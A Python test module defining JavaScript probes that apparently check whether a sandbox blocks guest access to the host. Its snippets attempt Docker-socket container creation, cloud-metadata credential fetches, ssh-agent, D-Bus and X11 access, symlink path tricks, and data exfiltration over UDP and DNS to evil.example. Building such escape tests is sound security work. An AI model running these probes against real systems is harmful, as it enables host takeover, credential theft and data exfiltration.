"""The attacks by sockets, in JavaScript."""

from __future__ import annotations

from attack_node_files import ROOM
from attack_probe import Probe

# Connect, say a word, print what comes back; and end when a second is over.
_REACH = r"""
function reach(where, word = "GET / HTTP/1.0\r\n\r\n") {
  attempt(() => net.connect(where, function () { this.write(word) })
    .on("data", (said) => say(said))
    .on("error", (error) => say(`${error}\n`)))
}
setTimeout(() => process.exit(), 1000)
"""
# A name of a folder's that is short, and that no rule about paths knows.
_SHORT = """
function short(path) {
  const folder = fs.openSync(require("path").dirname(path), fs.constants.O_DIRECTORY)
  return `/proc/self/fd/${folder}/${require("path").basename(path)}`
}
"""

PROBES = (
    Probe(
        "unix-sockets-by-path",
        "unix-sockets",
        "Whoever listens on the host trusts who can reach its socket.",
        _REACH
        + """
for (const name of W.sockets) if (name.startsWith("/")) reach({ path: name })
""",
        limits=ROOM,
    ),
    Probe(
        "unix-sockets-of-the-project",
        "unix-sockets",
        "A socket in a folder that may be read is not a file that may be read.",
        _REACH
        + """
for (const name of ["app.sock", `${W.project}/app.sock`, "/proc/self/cwd/app.sock"])
  reach({ path: name })
""",
        limits=ROOM,
    ),
    Probe(
        "unix-sockets-behind-links",
        "unix-sockets",
        "A link or a descriptor of the folder gives a socket another path.",
        _SHORT
        + _REACH
        + """
W.sockets.filter((name) => name.startsWith("/")).forEach((name, number) => {
  const link = `/tmp/link-${process.pid}-${number}`
  fs.symlinkSync(name, link)
  reach({ path: link })
  setTimeout(() => fs.unlinkSync(link), 500)
  attempt(() => reach({ path: short(name) }))
})
""",
        limits=ROOM,
    ),
    Probe(
        "docker-starts-a-container",
        "docker",
        "Who speaks to docker is root on the host.",
        """
for (const socketPath of ["/run/docker.sock", "/var/run/docker.sock", "/run/podman/podman.sock",
  "/run/containerd/containerd.sock"])
  http.request({ socketPath, path: "/containers/create", method: "POST" })
    .on("error", (error) => say(`${error}\\n`)).end("{}")
setTimeout(() => process.exit(), 700)
""",
        limits=ROOM,
    ),
    Probe(
        "dbus-of-the-session",
        "dbus",
        "The session's bus starts programs outside of every sandbox.",
        _REACH
        + """
const hello = String.fromCharCode(0) + `AUTH EXTERNAL ${Buffer.from(`${W.uid}`).toString("hex")}`
const named = (process.env.DBUS_SESSION_BUS_ADDRESS ?? "").replace("unix:path=", "")
for (const path of [named, `/run/user/${W.uid}/bus`, "/run/dbus/system_bus_socket"])
  if (path) reach({ path }, hello)
run("dbus-send", "--session", "--print-reply", "--dest=org.freedesktop.DBus", "/",
  "org.freedesktop.DBus.ListNames")
""",
        limits=ROOM,
    ),
    Probe(
        "x11-is-asked",
        "x11",
        "A window server hands every keystroke to every client.",
        _REACH
        + """
const hello = Buffer.from([0x6c, 0, 11, 0, 0, 0, 0, 0, 0, 0, 0, 0])
for (const name of ["/tmp/.X11-unix/X0", String.fromCharCode(0) + "/tmp/.X11-unix/X0"])
  reach({ path: name }, hello)
reach({ host: "127.0.0.1", port: 6000 }, hello)
""",
        limits=ROOM,
    ),
    Probe(
        "ssh-agent-is-asked",
        "unix-sockets",
        "The agent signs with the user's keys for whoever asks.",
        _REACH
        + """
for (const path of [process.env.SSH_AUTH_SOCK, `/run/user/${W.uid}/ssh-agent.sock`])
  if (path) reach({ path }, Buffer.from([0, 0, 0, 1, 11]))
""",
        limits=ROOM,
    ),
    Probe(
        "log-is-written-by-a-tool",
        "unix-sockets",
        "Datagram sockets too take what a guest says: here, the host's log.",
        "run('logger', '-d', '-u', '/run/systemd/journal/dev-log', 'forged')\nrun('logger', 'x')\n",
        limits=ROOM,
    ),
    Probe(
        "fifos-of-the-host",
        "unix-sockets",
        "A FIFO in a folder is a way to speak to whoever reads it.",
        """
for (const path of W.fifos) attempt(() => {
  fs.writeSync(fs.openSync(path, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK), "word")
})
""",
        limits=ROOM,
    ),
    Probe(
        "tcp-to-the-host",
        "tcp",
        "Services of the host trust whoever comes from the host.",
        _REACH
        + """
for (const port of W.tcp) for (const host of ["127.0.0.1", "127.0.0.2", "localhost", "0.0.0.0"])
  reach({ host, port })
""",
        limits=ROOM,
    ),
    Probe(
        "tcp-to-the-outside",
        "tcp",
        "What has been read is worth nothing until it can be sent away.",
        _REACH
        + """
for (const host of ["93.184.216.34", "93.184.216.36", "10.0.0.1", "192.168.1.1", "api.example"])
  for (const port of [80, 443, 53]) reach({ host, port })
""",
        limits=ROOM,
    ),
    Probe(
        "tcp-over-ipv6",
        "ipv6",
        "Rules for one protocol are forgotten for the other.",
        _REACH
        + """
for (const host of ["::1", "::ffff:127.0.0.1", "::ffff:93.184.216.34", "2606:2800:220:1::1",
  "64:ff9b::5db8:d822"]) reach({ host, port: 80, family: 6 })
""",
        limits=ROOM,
    ),
    Probe(
        "metadata-of-the-cloud",
        "metadata",
        "The address of a cloud's metadata hands out the machine's own credentials.",
        """
for (const host of ["169.254.169.254", "[::ffff:a9fe:a9fe]", "2852039166", "0xa9fea9fe",
  "inner.example", "[fd00:ec2::254]"])
  fetch(`http://${host}/latest/meta-data/iam/`).then((came) => came.text())
    .then(console.log, console.log)
setTimeout(() => process.exit(), 1000)
""",
        limits=ROOM,
    ),
    Probe(
        "http-to-the-host",
        "tcp",
        "Each of Node's own clients has its own way to a server.",
        r"""
const tell = (error) => say(`${error}\n`)
http.get("http://localhost:8080/", (came) => came.pipe(process.stdout)).on("error", tell)
http2.connect("http://127.0.0.1:8080").on("error", tell)
fetch("http://127.0.0.1:8080/").then((came) => came.text()).then(tell, tell)
require("https").get("https://93.184.216.34/").on("error", tell)
require("tls").connect(443, "93.184.216.34").on("error", tell)
setTimeout(() => process.exit(), 1000)
""",
        limits=ROOM,
    ),
    Probe(
        "connections-are-listed",
        "tcp",
        "The table of connections tells which services there are, and with whom they speak.",
        """
for (const pid of ["self", "1", process.ppid, W.host_pid]) for (const name of ["tcp", "tcp6"])
  attempt(() => fs.readFileSync(`/proc/${pid}/net/${name}`, "utf8").includes(":1F90 ") && got())
""",
        limits=ROOM,
    ),
    Probe(
        "udp-to-anywhere",
        "udp",
        "A datagram needs no connection and no answer to carry a secret away.",
        """
for (const [type, hosts] of [["udp4", ["127.0.0.1", "93.184.216.34", "255.255.255.255",
  "224.0.0.251", "169.254.169.254"]], ["udp6", ["::1", "2606:2800:220:1::1", "ff02::fb%lo"]]])
  for (const host of hosts) for (const port of W.udp) {
    const socket = dgram.createSocket(type)
    socket.on("error", () => 0).bind(0, () => {
      attempt(() => socket.setBroadcast(true))
      socket.send(Buffer.alloc(32, "\\0secret"), port, host, (error) => error && say(`${error}\\n`))
    })
  }
setTimeout(() => process.exit(), 1000)
""",
        limits=ROOM,
    ),
    Probe(
        "dns-carries-words",
        "dns",
        "A name that is looked up is told to servers of the attacker's.",
        """
const ask = new dns.Resolver({ timeout: 300, tries: 1 })
for (const server of ["127.0.0.1", "93.184.216.34", "[::1]", "127.0.0.53"]) attempt(() => {
  ask.setServers([server])
  for (const kind of ["A", "TXT", "MX"]) ask.resolve("c2VjcmV0.evil.example", kind, () => 0)
})
dns.resolve4("c2VjcmV0.evil.example", () => 0)
setTimeout(() => process.exit(), 1200)
""",
        limits=ROOM,
    ),
    Probe(
        "dns-by-the-system",
        "dns",
        "The system's own resolver asks on other ways: nscd, mDNS, files.",
        """
dns.lookup("c2VjcmV0.evil.example", { all: true }, (error, found) => {
  console.log(error, found)
  process.exit()
})
""",
        limits=ROOM,
    ),
)
